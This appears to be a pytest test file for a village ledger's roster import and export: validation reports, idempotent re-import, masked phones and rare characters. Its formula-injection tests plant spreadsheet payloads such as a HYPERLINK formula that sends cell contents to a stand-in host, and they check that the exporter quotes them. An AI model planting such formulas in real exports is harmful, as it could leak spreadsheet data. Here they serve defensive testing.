"""The roster in spreadsheets: all-or-nothing import with a row-by-row report, idempotent
re-import, and exports that keep rare characters intact and phones masked."""
from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, text

from ledger import roster
from ground.audit import AuditEntry
from ground.errors import ValidationError
from ledger.models import Household, Resident

HEADER = ["姓名", "户号", "与户主关系", "电话", "户名", "身份证号"]
GOOD = [
    ["王大", "E01", "户主", "13812345678", "王家", "360424199001011234"],
    ["王二", "E01", "子", "", "", ""],
    ["𠮷野", "W01", "户主", 13912345678, "𠮷家", ""],  # Excel keeps a phone as a number
    ["曾三", "W01", "配偶", "0795-8123456", "", ""],
]


def xlsx(rows, header=HEADER) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
def bank(make):
    return make.bank()


def _count(session, model):
    session.rollback()
    return session.execute(select(func.count()).select_from(model)).scalar()


def test_a_good_roster_registers_households_and_residents_and_is_audited(bank, session, clock):
    report = roster.import_roster(session, bank, "名册.xlsx", xlsx(GOOD), by="clerk", clock=clock)
    assert report.imported and [r.action for r in report.rows] == ["create"] * 4
    assert sorted(report.households_created) == ["E01", "W01"]
    assert report.ignored_columns == ["身份证号（不导入：本系统不保存身份证号）"]
    people = {r.name: r for r in session.execute(select(Resident)).scalars()}
    assert set(people) == {"王大", "王二", "𠮷野", "曾三"}
    assert people["𠮷野"].phone == "13912345678" and people["曾三"].phone == "07958123456"
    assert people["王二"].relation == "子" and people["王二"].phone is None
    assert "zengsan" in people["曾三"].pinyin
    entry = session.execute(select(AuditEntry).where(AuditEntry.action == "roster_import")).scalar_one()
    assert entry.actor == "clerk" and '"created": 4' in entry.detail


def test_importing_the_same_file_again_changes_nothing(bank, session, clock):
    data = xlsx(GOOD)
    roster.import_roster(session, bank, "名册.xlsx", data, by="clerk", clock=clock)
    again = roster.import_roster(session, bank, "名册.xlsx", data, by="clerk", clock=clock)
    assert [r.action for r in again.rows] == ["unchanged"] * 4 and again.households_created == []
    assert _count(session, Resident) == 4 and _count(session, Household) == 2


def test_a_changed_phone_updates_the_resident_it_matches(bank, session, clock):
    roster.import_roster(session, bank, "a.xlsx", xlsx(GOOD), by="clerk", clock=clock)
    changed = [row[:] for row in GOOD]
    changed[1][3] = "13700000000"
    report = roster.import_roster(session, bank, "b.xlsx", xlsx(changed), by="clerk", clock=clock)
    assert [r.action for r in report.rows] == ["unchanged", "update", "unchanged", "unchanged"]
    assert session.execute(select(Resident.phone).where(Resident.name == "王二")).scalar() == "13700000000"


def test_a_roster_with_a_bad_row_imports_nothing_and_reports_each_bad_row(bank, session, clock):
    rows = GOOD + [["李四", "E02", "", "1381234567", "", ""],      # row 6: 10 digits
                   ["", "E02", "", "", "", ""],                     # row 7: no name
                   ["王大", "E01", "户主", "", "", ""],             # row 8: twice, and a second head
                   ["赵六", "", "老板", "", "", ""]]                # row 9: no household, odd relation
    report = roster.import_roster(session, bank, "名册.xlsx", xlsx(rows), by="clerk", clock=clock)
    assert not report.imported
    bad = {r.row: " ".join(r.problems) for r in report.errors}
    assert set(bad) == {6, 7, 8, 9}
    assert "电话：电话号码有 10 位数字，手机号应为 11 位" in bad[6]
    assert "姓名：姓名不能为空" in bad[7]
    assert "与第 2 行重复" in bad[8] and "已在第 2 行有户主" in bad[8]
    assert "户号：户号不能为空" in bad[9] and "与户主关系" in bad[9]
    assert _count(session, Resident) == 0 and _count(session, Household) == 0
    assert _count(session, AuditEntry) == 1  # only the bank's creation


def test_a_csv_roster_in_gbk_or_utf8_imports_alike(bank, session, clock):
    text = "姓名,户号,电话\n王大,E01,13812345678\n李𪚥,E01,\n"
    report = roster.import_roster(session, bank, "roster.csv", text.encode("utf-8-sig"), by="c", clock=clock)
    assert report.imported and report.count("create") == 2
    gbk = "姓名,户号\n张三,E02\n".encode("gbk")
    assert roster.import_roster(session, bank, "roster.csv", gbk, by="c", clock=clock).count("create") == 1


@pytest.mark.parametrize("filename, data, why", [
    ("roster.pdf", b"%PDF", "只能导入 .xlsx 或 .csv"),
    ("roster.xlsx", b"not a workbook", "不是有效的 .xlsx"),
    ("roster.csv", "户号,电话\nE01,1\n".encode(), "缺少列：姓名"),
    ("roster.csv", b"", "文件是空的"),
    ("roster.csv", "姓名,户号\n".encode(), "没有数据行"),
])
def test_a_file_that_is_not_a_roster_is_refused_with_what_is_wrong(bank, session, clock, filename, data, why):
    with pytest.raises(ValidationError) as refused:
        roster.import_roster(session, bank, filename, data, by="c", clock=clock)
    assert why in " ".join(refused.value.field_texts()["file"])


def test_the_exported_roster_keeps_rare_characters_masks_phones_and_imports_back_unchanged(bank, session, clock):
    roster.import_roster(session, bank, "a.xlsx", xlsx(GOOD), by="clerk", clock=clock)
    exported = roster.roster_xlsx(session, bank)
    sheet = load_workbook(io.BytesIO(exported)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("户号", "户名", "姓名", "与户主关系", "电话")
    by_name = {r[2]: r for r in rows[1:]}
    assert by_name["𠮷野"][4] == "139****5678" and by_name["王大"][4] == "138****5678"
    assert "13812345678" not in exported.decode("latin-1")
    again = roster.import_roster(session, bank, "export.xlsx", exported, by="clerk", clock=clock)
    assert again.imported and {r.action for r in again.rows} == {"unchanged"}
    assert session.execute(select(Resident.phone).where(Resident.name == "王大")).scalar() == "13812345678"


def test_a_masked_phone_that_matches_nobody_is_refused(bank, session, clock):
    report = roster.import_roster(session, bank, "a.xlsx", xlsx([["王大", "E01", "户主", "138****5678", "", ""]]),
                                  by="clerk", clock=clock)
    assert not report.imported and "被遮盖" in report.rows[0].problems[0]


def test_the_ledger_exports_to_a_workbook_with_every_transfer(bank, session, clock, make):
    roster.import_roster(session, bank, "a.xlsx", xlsx(GOOD), by="clerk", clock=clock)
    people = {r.name: r for r in session.execute(select(Resident)).scalars()}
    make.deed(bank, "patrol", [people["𠮷野"], people["王大"]], quantity=2)
    make.deed(bank, "litter", [people["王大"]], memo="乱扔垃圾")
    sheet = load_workbook(io.BytesIO(roster.ledger_xlsx(session, bank))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == roster.LEDGER_HEADER
    assert [(r[0], r[7], r[12]) for r in rows[1:]] == [(1, "𠮷野", 4), (2, "王大", 4), (3, "王大", -5)]


# --- exported cells are never formulas ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x"&A1,"y")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"]


def _plant_memos(session, bank, clock, memos):
    """Post money movements with these memos straight through the posting function."""
    from ledger import accounts
    from ledger.models import CNY
    from ledger.posting import Draft, post

    town = accounts.system_account(session, bank.id, CNY, "source:town")
    fund = accounts.system_account(session, bank.id, CNY, "fund")
    post(session, bank.id, *([Draft(CNY, town.id, fund.id, 100, "grant", clock.today(), memo=m)] for m in memos),
         by="clerk", clock=clock)
    session.commit()


def _cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_formula_like_text_is_exported_as_quoted_text_and_numbers_stay_numbers(bank, session, clock, make):
    home = make.household(bank, "E01", FORMULAS[0])
    wang = make.resident(bank, "-王大", home)
    make.deed(bank, "litter", [wang])
    _plant_memos(session, bank, clock, FORMULAS)
    for data in (roster.ledger_xlsx(session, bank), roster.roster_xlsx(session, bank)):
        cells = _cells(data)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert "'-王大" in texts
    texts = {c.value for c in _cells(roster.ledger_xlsx(session, bank))}
    # XML reads a carriage return back as a line feed, in any cell.
    assert {"'" + f.replace("\r", "\n") for f in FORMULAS} <= texts
    penalty = load_workbook(io.BytesIO(roster.ledger_xlsx(session, bank))).active["M2"]
    assert (penalty.value, penalty.data_type) == (-5, "n")
    again = roster.import_roster(session, bank, "back.xlsx", roster.roster_xlsx(session, bank), by="c", clock=clock)
    assert again.imported and [r.action for r in again.rows] == ["unchanged"]


def test_text_with_characters_a_workbook_cannot_hold_is_exported_with_a_replacement_mark(
        bank, session, clock, make, backend):
    memos = ["坏\x01字", "响铃\x07"] + (["空\x00字"] if backend["name"] == "sqlite" else [])
    _plant_memos(session, bank, clock, memos)
    make.household(bank, "E02", "户名")
    session.execute(text("UPDATE households SET name = :n WHERE code = 'E02'"), {"n": "王\x02家"})
    session.commit()
    make.resident(bank, "王五", session.execute(select(Household).where(Household.code == "E02")).scalar_one())
    ledger_texts = {c.value for c in _cells(roster.ledger_xlsx(session, bank))}
    assert {"坏\ufffd字", "响铃\ufffd"} <= ledger_texts
    assert backend["name"] != "sqlite" or "空\ufffd字" in ledger_texts
    assert "王\ufffd家" in {c.value for c in _cells(roster.roster_xlsx(session, bank))}
